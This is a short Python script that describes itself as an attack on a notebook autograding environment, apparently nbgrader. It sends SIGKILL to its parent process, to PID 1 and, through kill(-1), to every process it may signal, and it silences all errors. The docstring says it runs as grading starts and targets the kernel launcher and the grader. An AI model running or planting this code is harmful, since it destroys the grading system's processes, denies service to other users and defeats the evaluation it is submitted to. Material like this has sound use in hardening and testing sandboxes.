"""Kills every process it may signal, its parents first, then kill(-1), as the kernel starts grading.
attacks: the kernel's launcher, nbgrader itself and every other process
"""
import os
import signal

for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except Exception:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
